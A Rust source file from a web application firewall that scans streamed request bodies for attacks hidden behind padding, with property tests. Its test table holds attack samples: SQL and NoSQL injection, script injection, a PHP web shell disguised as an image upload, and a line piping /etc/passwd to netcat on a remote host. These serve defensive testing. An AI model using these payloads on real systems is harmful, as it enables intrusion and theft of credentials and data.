//! A body that is too long to be held is looked at as it passes.
//!
//! Who holds the beginning of a body and lets the rest through gives an attacker a place to hide: behind as much padding as is
//! held. Here the rest is taken apart piece by piece, by the type that the body claims to have, and each value is looked at as
//! soon as it is whole. An application acts on a body when it has all of it, so the last piece is to be let through only
//! after [`Passing::finish`]; what is before it may go on at once.
//!
//! ```
//! use portcullis_waf::semantic::{Detector, Findings, Settings};
//!
//! let (detector, mut findings) = (Detector::new(Settings::default()), Findings::new());
//! let mut passing = detector.passing(b"application/x-www-form-urlencoded", false, b"padding=xxxxxxxxxxxxxx");
//! passing.push(&detector, b"xxxx&id=1+union+select+pass", &mut findings);
//! assert!(!detector.blocks(&findings));
//! passing.push(&detector, b"word+from+users", &mut findings);
//! passing.finish(&detector, &mut findings);
//! assert!(detector.blocks(&findings));
//! ```

use super::finding::{Findings, Place};
use super::text::{from, part};
use super::{Detector, Kind, decode};
use crate::body::Bounds;
use crate::body::multipart::Multipart;

/// How much of one value is looked at at once; a longer one is looked at in pieces.
pub const PIECE_BYTES: usize = 128 << 10;
/// How much of a piece is looked at again with the next one.
pub const OVERLAP_BYTES: usize = 8 << 10;

/// A body on its way. It holds at most one piece with its overlap, and of a multipart body the fields.
#[derive(Debug)]
pub struct Passing {
    reading: Reading,
    /// What came and was not looked at yet.
    carry: Vec<u8>,
    /// For what has escapes, undone.
    room: Vec<u8>,
}

#[derive(Debug)]
enum Reading {
    /// Nothing takes it apart; only code is looked for.
    File,
    /// The pair that is not whole yet is carried.
    Form,
    /// The string that is not whole yet is carried.
    Json(Json),
    /// The text or the attribute that is not whole yet is carried.
    Xml(Xml),
    /// Fields are looked at when they are whole; what they are told by is how many there were.
    Multipart { reader: Box<Multipart>, fields: usize, files: usize },
    /// As it is.
    Text,
}

/// Where in a document of JSON.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Json {
    Between,
    String,
    /// Behind a backslash.
    Escape,
    /// Behind a string, which is a name if a colon comes.
    After,
}

/// Where in a document of XML. Attributes are looked at with the tag that they are in: what counts is that nothing is left out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Xml {
    /// Up to the next tag.
    Text,
    Tag,
    /// In a section that ends in `]]>` and nowhere else.
    Section,
}

impl Detector {
    /// Begins to look at a body of which `before` has been looked at by [`Detector::body`]. `packed`: it has a content coding.
    #[must_use]
    pub fn passing(&self, content_type: &[u8], packed: bool, before: &[u8]) -> Passing {
        let reading = match Kind::of(content_type, packed) {
            Kind::File => Reading::File,
            Kind::Form => Reading::Form,
            Kind::Json => Reading::Json(Json::Between),
            Kind::Xml => Reading::Xml(Xml::Text),
            Kind::Multipart => {
                let reader = Box::new(Multipart::new(content_type, Bounds::default()));
                Reading::Multipart { reader, fields: 0, files: 0 }
            }
            Kind::Text => Reading::Text,
        };
        let mut passing = Passing { reading, carry: Vec::new(), room: Vec::new() };
        passing.take(before, &mut |_, _, _| {});
        if let Reading::Multipart { reader, fields, files } = &mut passing.reading {
            (*fields, *files) = (reader.parts().fields.len(), reader.parts().files.len());
        }
        if matches!(passing.reading, Reading::Text | Reading::File) {
            passing.carry = from(before, before.len().saturating_sub(OVERLAP_BYTES)).to_vec();
        }
        passing
    }
}

impl Passing {
    /// Looks at what has become whole with the next piece of the body.
    pub fn push(&mut self, detector: &Detector, chunk: &[u8], findings: &mut Findings) {
        if let Reading::Multipart { reader, fields, files } = &mut self.reading {
            reader.push(chunk);
            let parts = reader.parts();
            for field in parts.fields.iter().skip(*fields) {
                detector.value(Place::FormName, b"", field.name, findings);
                detector.value(Place::Form, field.name, field.value, findings);
            }
            for file in parts.files.iter().skip(*files) {
                detector.value(Place::FormName, b"", file.name, findings);
                detector.value(Place::FileName, file.name, file.value, findings);
            }
            (*fields, *files) = (parts.fields.len(), parts.files.len());
            // Beyond its bounds the reader reads no more.
            if parts.outcome.cut || parts.outcome.fault.is_some() {
                self.reading = Reading::Text;
            }
        }
        let mut room = std::mem::take(&mut self.room);
        self.take(chunk, &mut |place, text, whole| {
            match place {
                // What is not whole has no name; with an equals sign it is a value.
                Place::Form if whole => detector.form(text, findings),
                Place::Json | Place::JsonName if decode::json(text, &mut room) => {
                    detector.value(place, b"", &room, findings);
                }
                _ => detector.value(place, b"", text, findings),
            }
        });
        self.room = room;
    }

    /// Looks at what is left when the body has ended.
    pub fn finish(&mut self, detector: &Detector, findings: &mut Findings) {
        let carry = std::mem::take(&mut self.carry);
        match std::mem::replace(&mut self.reading, Reading::Text) {
            Reading::Form => detector.form(&carry, findings),
            Reading::Json(_) => {
                let mut room = std::mem::take(&mut self.room);
                let text = if decode::json(&carry, &mut room) { &room } else { &carry };
                detector.value(Place::Json, b"", text, findings);
            }
            Reading::Xml(_) => detector.value(Place::Xml, b"", &carry, findings),
            Reading::Text => detector.value(Place::Body, b"", &carry, findings),
            Reading::File => detector.value(Place::File, b"", &carry, findings),
            Reading::Multipart { reader, fields, files } => {
                detector.value(Place::File, b"", &carry, findings);
                let parts = reader.finish();
                for field in parts.fields.iter().skip(fields) {
                    detector.value(Place::FormName, b"", field.name, findings);
                    detector.value(Place::Form, field.name, field.value, findings);
                }
                for file in parts.files.iter().skip(files).chain(parts.extended_names.iter()) {
                    detector.value(Place::FormName, b"", file.name, findings);
                    detector.value(Place::FileName, file.name, file.value, findings);
                }
            }
        }
    }

    /// Whether the last piece is to be kept until [`Passing::finish`]. Files are code or not, wherever they end.
    #[must_use]
    pub const fn holds_last(&self) -> bool {
        !matches!(self.reading, Reading::File)
    }

    /// Takes a piece apart. `look` is shown what is whole, or what is too long to become whole.
    fn take(&mut self, chunk: &[u8], look: &mut impl FnMut(Place, &[u8], bool)) {
        match self.reading {
            Reading::File | Reading::Multipart { .. } => self.pile(Place::File, chunk, look),
            Reading::Text => self.pile(Place::Body, chunk, look),
            Reading::Form => {
                let mut rest = chunk;
                if let Some(end) = memchr::memrchr(b'&', rest) {
                    self.carry.extend_from_slice(part(rest, 0, end));
                    look(Place::Form, &self.carry, true);
                    self.carry.clear();
                    rest = from(rest, end + 1);
                }
                self.pile(Place::Form, rest, look);
            }
            Reading::Json(state) => self.json(state, chunk, look),
            Reading::Xml(state) => self.xml(state, chunk, look),
        }
    }

    /// Carries more of a value; one that grows too long is looked at as far as it has come.
    fn pile(&mut self, place: Place, more: &[u8], look: &mut impl FnMut(Place, &[u8], bool)) {
        let mut more = more;
        while self.carry.len() + more.len() > PIECE_BYTES {
            let taken = PIECE_BYTES.saturating_sub(self.carry.len());
            self.carry.extend_from_slice(part(more, 0, taken));
            more = from(more, taken);
            look(place, &self.carry, false);
            self.carry.drain(..self.carry.len().saturating_sub(OVERLAP_BYTES));
        }
        self.carry.extend_from_slice(more);
    }

    fn json(&mut self, mut state: Json, chunk: &[u8], look: &mut impl FnMut(Place, &[u8], bool)) {
        let mut rest = chunk;
        while let Some(first) = rest.first().copied() {
            match state {
                Json::Between => {
                    let end = rest.iter().position(|byte| !is_between(*byte)).unwrap_or(rest.len());
                    rest = from(rest, end);
                    match rest.first() {
                        None => break,
                        Some(b'"') => state = Json::String,
                        Some(_) => {
                            // It is no JSON, whatever it says.
                            self.reading = Reading::Text;
                            return self.pile(Place::Body, rest, look);
                        }
                    }
                    rest = from(rest, 1);
                }
                Json::String => {
                    let end = memchr::memchr2(b'"', b'\\', rest).unwrap_or(rest.len());
                    self.pile(Place::Json, part(rest, 0, end), look);
                    match rest.get(end) {
                        Some(b'"') => state = Json::After,
                        Some(slash) => {
                            self.pile(Place::Json, &[*slash], look);
                            state = Json::Escape;
                        }
                        None => {}
                    }
                    rest = from(rest, end + 1);
                }
                Json::Escape => {
                    self.pile(Place::Json, &[first], look);
                    state = Json::String;
                    rest = from(rest, 1);
                }
                Json::After if first.is_ascii_whitespace() => rest = from(rest, 1),
                Json::After => {
                    let place = if first == b':' { Place::JsonName } else { Place::Json };
                    look(place, &self.carry, true);
                    self.carry.clear();
                    state = Json::Between;
                }
            }
        }
        self.reading = Reading::Json(state);
    }

    fn xml(&mut self, mut state: Xml, chunk: &[u8], look: &mut impl FnMut(Place, &[u8], bool)) {
        const SECTION: &[u8] = b"![CDATA[";
        let mut rest = chunk;
        while let Some(first) = rest.first().copied() {
            match state {
                Xml::Text | Xml::Tag => {
                    let (mark, next) = if state == Xml::Text { (b'<', Xml::Tag) } else { (b'>', Xml::Text) };
                    let wanted = SECTION.len().saturating_sub(self.carry.len());
                    if state == Xml::Tag && wanted > 0 {
                        // The first signs of a tag say whether it is one.
                        rest = from(rest, 1);
                        if first != mark {
                            self.carry.push(first);
                        }
                        if self.carry == SECTION {
                            self.carry.clear();
                            state = Xml::Section;
                        } else if first == mark {
                            look(Place::Xml, &self.carry, true);
                            self.carry.clear();
                            state = next;
                        }
                        continue;
                    }
                    let end = memchr::memchr(mark, rest).unwrap_or(rest.len());
                    self.pile(Place::Xml, part(rest, 0, end), look);
                    if end < rest.len() {
                        look(Place::Xml, &self.carry, true);
                        self.carry.clear();
                        state = next;
                    }
                    rest = from(rest, end + 1);
                }
                Xml::Section => {
                    let end = memchr::memchr(b'>', rest).map_or(rest.len(), |end| end + 1);
                    self.pile(Place::Xml, part(rest, 0, end), look);
                    if self.carry.ends_with(b"]]>") {
                        look(Place::Xml, &self.carry, true);
                        self.carry.clear();
                        state = Xml::Text;
                    }
                    rest = from(rest, end);
                }
            }
        }
        self.reading = Reading::Xml(state);
    }
}

/// What may stand outside of the strings of JSON.
const fn is_between(byte: u8) -> bool {
    matches!(byte, b'[' | b']' | b'{' | b'}' | b':' | b',' | b'0'..=b'9' | b'.' | b'e' | b'E' | b'+' | b'-')
        || matches!(byte, b't' | b'r' | b'u' | b'f' | b'a' | b'l' | b's' | b'n')
        || byte.is_ascii_whitespace()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::semantic::Settings;

    /// A type, how such a body begins, and how it goes on: with what is an attack and with its twin.
    const BODIES: &[(&str, &str, &str, &str)] = &[
        (
            "application/x-www-form-urlencoded",
            "a=",
            "&id=1+union+select+password+from+users--",
            "&id=the+union+select+few",
        ),
        (
            "application/json",
            "{\"a\":\"",
            "\",\"b\":\"1\\u0027 union select password from users--\"}",
            "\",\"b\":\"a union\"}",
        ),
        (
            "application/json",
            "[{\"a\":\"",
            "\",\"b\" : {\"$where\" :\"sleep(5000)\"}}]",
            "\",\"b\" : {\"where\" :\"sleep\"}}]",
        ),
        ("application/json", "a=", " 1' union select password from users--", " the union and a select few"),
        (
            "multipart/form-data; boundary=x",
            "--x\r\nContent-Disposition: form-data; name=\"p\"\r\n\r\n",
            "\r\n--x\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n<script>alert(1)</script>\r\n--x--\r\n",
            "\r\n--x\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nhello\r\n--x--\r\n",
        ),
        (
            "multipart/form-data; boundary=x",
            "--x\r\nContent-Disposition: form-data; name=\"p\"; filename=\"a.png\"\r\n\r\n",
            "<?php system($_GET['c']); ?>\r\n--x--\r\n",
            "<? nothing of that kind >\r\n--x--\r\n",
        ),
        ("text/xml", "<a><b>", "</b><b>1' union select password from users--</b></a>", "</b><b>a union</b></a>"),
        (
            "text/xml",
            "<a><b>",
            "</b><b id=\"1' union select password from users--\"/></a>",
            "</b><b id=\"a union\"/></a>",
        ),
        (
            "text/xml",
            "<a><b>",
            "</b><b><![CDATA[<script>alert(1)</script>]]></b></a>",
            "</b><b><![CDATA[<b>1 > 0</b>]]></b></a>",
        ),
        (
            "text/xml",
            "<a><!-- don't --><b>",
            "</b><b>1' union select password from users--</b></a>",
            "</b><b>it's</b></a>",
        ),
        ("text/plain", "", "; cat /etc/passwd | nc 192.0.2.1 99", "and so on"),
        ("image/png", "", "<?php system($_GET['c']); ?>", "<? nothing"),
    ];

    fn blocks(kind: &str, before: &str, rest: &[&[u8]]) -> bool {
        let (detector, mut findings) = (Detector::new(Settings::default()), Findings::new());
        let mut passing = detector.passing(kind.as_bytes(), false, before.as_bytes());
        rest.iter().for_each(|piece| passing.push(&detector, piece, &mut findings));
        passing.finish(&detector, &mut findings);
        detector.blocks(&findings)
    }

    #[test]
    fn what_comes_behind_the_padding_is_seen() {
        let padding = "padding ".repeat(40_000);
        for (kind, start, attack, twin) in BODIES {
            for length in [0, 100, padding.len()] {
                let before = format!("{start}{}", &padding[..length]);
                assert!(blocks(kind, &before, &[attack.as_bytes()]), "{kind} {attack}");
                assert!(!blocks(kind, &before, &[twin.as_bytes()]), "{kind} {twin}");
                // And the padding itself may pass, too.
                assert!(
                    blocks(kind, start, &[&before.as_bytes()[start.len()..], attack.as_bytes()]),
                    "{kind} {attack}"
                );
                assert!(!blocks(kind, start, &[&before.as_bytes()[start.len()..], twin.as_bytes()]), "{kind} {twin}");
            }
        }
    }

    #[test]
    fn what_is_held_is_bounded() {
        let (detector, mut findings) = (Detector::new(Settings::default()), Findings::new());
        for (kind, start, _, _) in BODIES {
            let mut passing = detector.passing(kind.as_bytes(), false, start.as_bytes());
            for _ in 0..100 {
                passing.push(&detector, &[b'x'; 16 << 10], &mut findings);
                assert!(passing.carry.capacity() <= 2 * PIECE_BYTES, "{kind}: {}", passing.carry.capacity());
            }
            findings.clear();
        }
    }

    proptest! {
        #[test]
        fn however_it_is_cut_the_same_is_found(cuts in proptest::collection::vec(0_usize..200, 0..6), which in 0..BODIES.len()) {
            let (kind, start, attack, twin) = BODIES[which];
            for (text, expected) in [(attack, true), (twin, false)] {
                let whole = format!("{start}some padding{text}");
                let mut at: Vec<usize> = cuts.iter().map(|cut| (*cut).min(whole.len())).collect();
                at.extend([0, whole.len()]);
                at.sort_unstable();
                let pieces: Vec<&[u8]> = at.windows(2).map(|pair| &whole.as_bytes()[pair[0]..pair[1]]).collect();
                prop_assert_eq!(blocks(kind, "", &pieces), expected, "{} {}", kind, text);
            }
        }

        #[test]
        fn any_bytes_are_taken(bytes in proptest::collection::vec(any::<u8>(), 0..400), which in 0..BODIES.len()) {
            blocks(BODIES[which].0, BODIES[which].1, &[&bytes]);
        }
    }
}
